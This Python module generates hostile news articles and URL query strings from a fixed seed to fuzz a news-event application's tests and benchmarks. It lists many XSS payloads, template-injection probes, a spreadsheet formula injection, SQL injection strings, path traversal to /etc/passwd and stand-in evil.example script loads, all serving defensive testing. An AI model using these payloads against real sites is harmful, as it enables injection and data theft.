"""Articles and questions that mean harm, made by a fixed seed: a few for the tests, many for benchmarks/hostile.py."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import replace

from dateline.article import Source
from dateline.record import Record

#: What a page must never run: it would name itself in the title and in a global.
RUN = "window.RAN=1;document.title='RAN'"
_CODE = "&#119;indow.RAN=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    '<script src="//evil.example/x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={_CODE}>",
    f'"><img src=x onerror="{RUN}">',
    f'\'><img src=x onerror="{RUN}">',
    f"`onmouseover=`{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a></svg>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href=" &#106;avascript:{RUN}">go</a>',
    f'<a href="java\tscript:{RUN}">go</a>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>*{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x);position:fixed;inset:0">',
    "</title><script>window.RAN=1</script>",
    "</textarea><script>window.RAN=1</script>",
    "<!--<script>window.RAN=1//--></script>",
    "{{ config }} {% for x in ().__class__.__bases__ %}{{ x }}{% endfor %} ${7*7} #{7*7}",
    "{{constructor.constructor('window.RAN=1')()}}",
    "\u202egnp.exe\u202c \u2066txt\u2069 pаypal (а is Cyrillic) \u200f\u200e",
    "\x00\x08\x1b[31m \ufeff \ud800",
    "<math><mtext><table><mglyph><style><img src onerror=window.RAN=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.RAN=1>">',
    "&lt;script&gt;window.RAN=1&lt;/script&gt; &amp;#60;script&amp;#62;",
    "\\u003cscript\\u003ewindow.RAN=1\\u003c/script\\u003e",
    "javascript:window.RAN=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuUkFOPTE8L3NjcmlwdD4=",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE articles; --",
)
_FRAMES = (
    "Police {0} open fire in {0}Walvis Bay\n\n"
    "WALVIS BAY, March 14, 2023 (SKELA) - Police {0} opened fire on marchers on Tuesday, {0} Elias {0} Tjikuua said.",
    "{0}\n\nWINDHOEK, March 15, 2023 (Kestrel) - Three people were killed in Swakopmund, the ministry said. "
    '"{0}" President Josef Hamunyela said.',
    "Marchers block road\n\nGABORONE, March 16, 2023 ({0}) - Botswana sent 200 police officers to Namibia on Thursday. {0}\n\n"
    "{0} was quiet.",
)


def copies(many: int, seed: int = 7) -> Iterator[tuple[str, str]]:
    """(text, payload) of hostile articles: first every payload in one frame, then pairs and pieces of them in all."""
    chance = random.Random(seed)
    for n in range(many):
        payload = PAYLOADS[n % len(PAYLOADS)]
        if n >= len(PAYLOADS):
            cut = payload[: chance.randrange(4, 60)]
            payload = chance.choice((payload + chance.choice(PAYLOADS), payload[::-1], payload.upper(), cut, payload * 3))
        payload = payload.encode("utf-8", "replace").decode()
        yield _FRAMES[n % len(_FRAMES)].replace("{0}", payload), payload


def records(many: int, seed: int = 7) -> Iterator[Record]:
    """Hostile articles as they would be read, with a hostile outlet, address and path, and every fifth with a hostile id."""
    import dateline

    for n, (text, payload) in enumerate(copies(many, seed)):
        record = dateline.read(text, outlet=payload.replace("\x00", " ")[:120])
        url = payload if "javascript" in payload or "data:" in payload else f"https://paper.example/{n}"
        made = replace(record, source=Source(url=url, path=payload[:120], outlet=payload[:120]))
        yield replace(made, id=f"{n}-{payload[:60]}") if n % 5 == 0 else made


PATHS = (
    *("/events", "/search", "/stories", "/actors", "/export/csv", "/export/geojson", "/"),
    *("/timeline", "/map", "/compare", "/review"),
    *("/api/events", "/api/search", "/api/timeline", "/api/facets"),
)
_KEYS = (
    *("type", "mode", "country", "place", "actor", "status", "voice", "outlet", "story", "happening", "origin", "article"),
    *("kind", "from", "to", "min_origins", "casualties", "doubt", "box", "text", "rejected"),
    *("q", "page", "sort", "columns", "limit", "offset", "as_of", "entries"),
    *("by", "at", "zoom", "move", "brush", "skip", "item", "again", "part"),
)
_VALUES = (
    *("", "*", "**", "%", "_", "'", '"', '""', "a-b", "NEAR(a b)", "a AND", "OR", "-", "-a", "(", ")", "a*b*c*", "^a", "col:a"),
    *("{a}", "a + b", "NOT", "0", "-1", "1e9", "9" * 40, "NaN", "inf", "0x10", "١", "½", "1;2", "null", "None", "true", "[]", "{}"),
    *("\x00", "\ud83d", "😀" * 50, "é" * 200, "\u202e", "<script>alert(1)</script>", "a" * 3_000, "* " * 400),
    *("9999-12-31", "0000-00-00", "2023-13", "10000-01-01", "2023-W99", "2023-02-30", "-0001"),
    *("1,2,3", "1,2,3,4,5", "181,0,0,0", "nan,nan,nan,nan", "../../etc/passwd", "%00", "%2e%2e"),
    *("' OR 1=1 --", "'; DROP TABLE events; --", '" OR ""="', "1 UNION SELECT 1", "PROTEST,ASSAULT", "PROTEST" + ",PROTEST" * 500),
    *("~", "~GOV", "=", "=/", "KAZ~", "own", "any", "-date"),
)


def questions(many: int, seed: int = 11) -> Iterator[str]:
    """Addresses with hostile filters."""
    from urllib.parse import quote

    chance = random.Random(seed)
    for n in range(many):
        pairs = []
        for _ in range(chance.choice((1, 1, 1, 2, 3, 8))):
            key = chance.choice(_KEYS) if chance.random() < 0.95 else chance.choice(("__proto__", "a[b]", "type[]", "", "%"))
            value = chance.choice(_VALUES)
            if chance.random() < 0.2:
                value += chance.choice(_VALUES)
            pairs.append(f"{quote(key)}={quote(value[:1500].encode('utf-8', 'surrogatepass'))}")
        path = PATHS[n % len(PATHS)]
        if chance.random() < 0.1:
            path = chance.choice(("/story/", "/happening/", "/article/", "/actor/", "/api/records/", "/export/")) + quote(
                chance.choice(_VALUES)[:300].encode("utf-8", "surrogatepass"), safe=""
            )
        if chance.random() < 0.05:
            pairs.append("%ff%fe=%c0%af&&&===;%")
        yield f"{path}?{'&'.join(pairs)}"
